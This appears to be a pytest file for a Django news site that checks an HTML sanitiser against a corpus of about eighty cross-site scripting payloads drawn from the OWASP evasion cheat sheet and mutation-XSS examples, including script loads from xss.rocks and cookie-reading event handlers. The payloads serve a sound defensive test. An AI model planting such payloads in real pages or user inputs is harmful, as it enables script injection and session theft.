"""Article bodies keep what the editor writes and nothing that can run script.

The corpus follows the OWASP XSS filter evasion cheat sheet and well-known mutation XSS
payloads. Output is checked by parsing it, not by looking for substrings.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from django_prose_editor.config import allowlist_from_extensions

from news.models import Article
from news.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_CLASSES,
    ALLOWED_TAGS,
    EDITOR_EXTENSIONS,
    URL_SCHEMES,
    clean_html,
)

from .factories import AuthorFactory, CategoryFactory
from .test_admin import article_form_data

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
ENTITY_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
ENTITY_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
ENTITY_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")

XSS_PAYLOADS = [
    # Script tags in their many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<template><script>alert(1)</script></template>",
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    # javascript: URLs with case, entity and whitespace tricks
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f"<IMG SRC={ENTITY_DECIMAL}>",
    f"<IMG SRC={ENTITY_PADDED}>",
    f"<IMG SRC={ENTITY_HEX}>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#x6A;avascript:alert(1)">tautan</a>',
    '<a href=" JAVASCRIPT:alert(1)">tautan</a>',
    '<a href="java\x00script:alert(1)">tautan</a>',
    '<a href="javas&#99;ript:alert(1)">tautan</a>',
    '<a href="javascript&colon;alert(1)">tautan</a>',
    '<a href="  &#x20;javascript:alert(1)">tautan</a>',
    f'<a href="{ENTITY_DECIMAL}">tautan</a>',
    '<a href="vbscript:msgbox(1)">tautan</a>',
    '<img srcset="javascript:alert(1) 1x" src="https://example.com/a.jpg">',
    # Event handlers
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src=x onerror="{ENTITY_PADDED}">',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<svg/onload=alert('XSS')>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>teks</marquee>",
    "<x onclick=alert(1)>klik",
    '<blockquote cite="javascript:alert(1)" onclick="alert(1)">kutipan</blockquote>',
    '<p id="x" class="evil" data-x="1" onclick="x()">paragraf</p>',
    '<figure class="figure" onclick="x()"><img src="https://example.com/a.jpg" onerror="x()">'
    "</figure>",
    # Styles
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<p style="behavior: url(xss.htc)">paragraf</p>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    # Frames, objects, embeds
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    f'<EMBED SRC="data:image/svg+xml;base64,{B64_SCRIPT}" type="image/svg+xml"></EMBED>',
    "<applet code=x.class></applet>",
    # Meta refresh, base, forms
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{B64_SCRIPT}">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">X</button></form>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<isindex action=javascript:alert(1) type=image>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    # data: URLs
    f'<a href="data:text/html;base64,{B64_SCRIPT}">tautan</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    # SVG and MathML, including namespace-confusion mutation XSS
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:javascript:alert(1)">CLICKME</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "srcset"}


class Structure(HTMLParser):
    """Collects every element, attribute and comment of a fragment."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.comments, self.others = [], [], []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.others.append(decl)

    handle_pi = unknown_decl = handle_decl


def url_scheme(value):
    """The scheme a browser would see: control characters and whitespace do not count."""
    squashed = "".join(char for char in value if char > " " and char != "\x7f").lower()
    return urlsplit(squashed).scheme


# What the page adds to a stored body's images when it renders it (news/body.py).
RENDERED_IMAGE_ATTRIBUTES = {"loading", "decoding"}


def assert_harmless(html, rendered=False):
    structure = Structure()
    structure.feed(html)
    structure.close()
    assert not structure.comments and not structure.others, html
    for tag, attrs in structure.elements:
        assert tag in ALLOWED_TAGS, html
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if rendered and tag == "img":
            allowed |= RENDERED_IMAGE_ATTRIBUTES
        for name, value in attrs:
            if name == "class":
                assert set(value.split()) <= ALLOWED_CLASSES.get(tag, set()), html
                continue
            assert name in allowed, html
            assert not name.startswith("on") and name != "style", html
            if name in URL_ATTRIBUTES:
                assert url_scheme(value or "") in URL_SCHEMES | {""}, html


def test_corpus_is_large_enough():
    """The corpus has at least forty distinct payloads."""
    assert len(set(XSS_PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitiser_removes_payload(payload):
    """No payload leaves a tag, attribute or URL scheme outside the allow-list."""
    cleaned = clean_html(payload)
    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.slow
@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_admin_save_path_removes_payload(editor_client, payload):
    """An editor saving a payload through the admin stores a harmless body (or nothing)."""
    data = article_form_data(CategoryFactory(), AuthorFactory(), body=f"<p>Isi</p>{payload}")
    response = editor_client.post(reverse("admin:news_article_add"), data)
    if "\x00" in payload:  # Django refuses null characters in any form field
        assert list(response.context["adminform"].form.errors) == ["body"]
        assert not Article.objects.exists()
        return
    assert response.status_code == 302, response.context["adminform"].form.errors
    body = Article.objects.get().body
    assert body.startswith("<p>Isi</p>")
    assert_harmless(body)
    page = editor_client.get(Article.objects.get().get_absolute_url()).text
    assert_harmless(page.split('<div class="article__body">')[1].split("</div>")[0], rendered=True)


def test_editor_output_is_kept():
    """Everything the editor writes survives: headings, marks, links, lists, quotes, figures."""
    html = (
        "<h2>Judul</h2><h3>Sub</h3><h4>Subsub</h4>"
        '<p><strong>tebal</strong> <em>miring</em> <a href="https://polri.go.id/" '
        'title="Polri">tautan</a><br>baris</p>'
        '<ul><li><p>satu</p></li></ul><ol start="2"><li><p>dua</p></li></ol>'
        "<blockquote><p>kutipan</p></blockquote><hr>"
        '<figure class="figure"><img src="/media/a.jpg" alt="Foto" width="960" height="540">'
        "<figcaption>Keterangan</figcaption></figure>"
    )
    expected = html.replace('title="Polri"', 'title="Polri" rel="noopener noreferrer nofollow"')
    assert clean_html(html) == expected


def test_allow_list_covers_the_editor_extensions():
    """Every tag the configured editor can write is allowed, and nothing more."""
    editor = allowlist_from_extensions(EDITOR_EXTENSIONS)
    assert editor["tags"] == ALLOWED_TAGS
    for tag, attributes in ALLOWED_ATTRIBUTES.items():
        assert attributes <= editor["attributes"][tag]


def test_empty_editor_document_is_empty():
    """The editor's lone empty paragraph counts as no body at all."""
    assert clean_html("<p></p>") == ""
    assert clean_html("<script>x</script>") == ""
